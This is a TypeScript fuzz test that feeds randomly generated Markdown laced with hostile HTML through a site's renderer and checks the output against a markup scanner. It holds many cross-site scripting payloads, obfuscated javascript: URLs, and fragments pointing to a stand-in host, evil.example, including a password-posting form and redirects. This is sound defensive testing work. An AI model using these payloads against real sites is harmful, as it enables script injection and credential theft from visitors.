import { describe, expect, it, vi } from "vitest";
import { between, pick, seededRandom } from "../../scripts/lib/random.ts";
import { createMarkdownRenderer } from "../../src/astro/markdownProcessor.ts";
import { unsafeMarkup } from "../../src/core/publish/outputScan.ts";

/** Elements that run script, load other content, post data, restyle or escape their place. */
const TAGS = [
  ...["script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "link", "meta"],
  ...["form", "input", "button", "textarea", "select", "svg", "math", "template", "noscript", "xmp", "img"],
  ...["a", "video", "audio", "source", "area", "details", "portal", "body", "title", "kbd", "sub", "mark", "br"],
];
const HANDLERS = ["onerror", "onload", "onclick", "OnMouseOver", "ontoggle", "onfocus", "onbegin", "ONANIMATIONSTART"];
const ADDRESS_ATTRIBUTES = ["href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "data", "to"];
/** `javascript:` and its relatives in the spellings browsers still read as a scheme. */
const SCRIPT_URLS = [
  ...["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#9;script:alert(1)"],
  ...["&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)", " \u0001javascript:x"],
  ...[
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox",
    "jav&#x0A;ascript:alert(1)",
    "x.png 1x,javascript:x",
  ],
];
/** Raw HTML in the shapes that slip past simple checks. */
const FRAGMENTS: ((random: () => number) => string)[] = [
  (random) => `<${pick(random, TAGS)} ${pick(random, HANDLERS)}=alert(1)>`,
  (random) => `<${pick(random, TAGS)} ${pick(random, ADDRESS_ATTRIBUTES)}="${pick(random, SCRIPT_URLS)}">x`,
  (random) => `<${pick(random, TAGS)}/${pick(random, ADDRESS_ATTRIBUTES)}='${pick(random, SCRIPT_URLS)}'/x>`,
  (random) => `<img/src="x"/${pick(random, HANDLERS)}=alert(1)>`,
  (random) => `</${pick(random, ["p", "div", "li", "td"])}>\n<${pick(random, TAGS)} ${pick(random, HANDLERS)}="x">`,
  () => '<!-- --><meta http-equiv="refresh" content="0;url=https://evil.example/"><!-- -->',
  () => '<meta http-equiv="Refresh" content="0; url=/terms/x/">',
  () => "<![CDATA[<img src=x onerror=alert(1)>]]>",
  () => "<!--><img src=x onerror=alert(1)>-->",
  () => "<img src=x onerror=alert(1)",
  (random) => `<img\nsrc=x\n${pick(random, HANDLERS)}\n=\nalert(1)>`,
  () => "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
  () => "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
  () => "<form action=https://evil.example/><input type=password name=pw><button>Log in</button></form>",
  () => "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
  () => '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  () => "<template><script>alert(1)</script></template>",
  () => "<base href=https://evil.example/>",
  () => "<kbd>",
  () => "</mark>",
];
/** Markdown that holds what it is given: the places hostile HTML could hide in a real entry. */
const WRAPPERS: ((inner: string, random: () => number) => string)[] = [
  (inner) => inner,
  (inner) => `Some text ${inner} and more.`,
  (inner) => `- ${inner}\n  - nested ${inner}`,
  (inner) => `1. ${inner}`,
  (inner) => `> ${inner.replaceAll("\n", "\n> ")}`,
  (inner) => `> - ${inner}`,
  (inner) => `| a | b |\n|---|---|\n| ${inner.replaceAll("\n", " ")} | x |`,
  (inner) => `A note.[^n]\n\n[^n]: ${inner}`,
  (inner) => `## A heading ${inner.replaceAll("\n", " ")}`,
  (inner) => `*${inner}* and **${inner}**`,
  (inner) => `[${inner.replaceAll("\n", " ")}](/terms/x/)`,
  (_, random) => `[a link](${pick(random, SCRIPT_URLS).replaceAll(" ", "")}) ![an image](${pick(random, SCRIPT_URLS)})`,
  (_, random) => `[ref][r]\n\n[r]: ${pick(random, SCRIPT_URLS).replaceAll(" ", "")}`,
  (_, random) =>
    `![remote](${pick(random, ["https://evil.example/x.png", "//evil.example/x.png", "\\\\evil.example"])})`,
  (inner, random) => `\`\`\`${pick(random, ['js"onmouseover="alert(1)', "nosuchlang", "html"])}\n${inner}\n\`\`\``,
  (inner) => `\`${inner.replaceAll("\n", " ")}\``,
];

/** A body of a few blocks, each a piece of hostile HTML placed somewhere in Markdown. */
function hostileBody(random: () => number): string {
  return Array.from({ length: between(random, 1, 4) }, () => {
    const inner = Array.from({ length: between(random, 1, 2) }, () => pick(random, FRAGMENTS)(random)).join(" ");
    return pick(random, WRAPPERS)(inner, random);
  }).join("\n\n");
}

describe("rendering generated hostile bodies (seeded)", () => {
  it("never writes an element or attribute the output scan forbids (2,000 bodies)", async () => {
    const warn = vi.spyOn(console, "warn").mockImplementation(() => {}); // Prism names each unknown code language
    const renderer = await createMarkdownRenderer("/");
    const random = seededRandom(7_2026);
    const page = (body: string) => `<!DOCTYPE html><html><head></head><body><main>${body}</main></body></html>`;
    for (let run = 0; run < 2000; run++) {
      const markdown = hostileBody(random);
      const { code } = await renderer.render(markdown);
      expect(unsafeMarkup(page(code), "/"), `${markdown}\n→\n${code}`).toEqual([]);
    }
    warn.mockRestore();
  });
});
